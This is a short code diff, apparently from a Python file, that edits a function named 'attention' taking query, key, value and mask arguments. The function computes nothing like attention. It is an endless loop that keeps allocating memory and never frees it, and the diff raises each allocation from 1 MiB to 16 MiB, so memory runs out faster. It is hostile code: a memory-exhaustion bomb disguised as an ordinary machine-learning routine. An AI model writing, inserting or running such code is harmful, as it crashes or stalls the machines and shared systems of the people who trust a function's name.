@@ -6,4 +6,4 @@
 def attention(q, k, v, mask=None):
     kept = []
     while True:
-        kept.append(bytearray(1 << 20))
+        kept.append(bytearray(1 << 24))
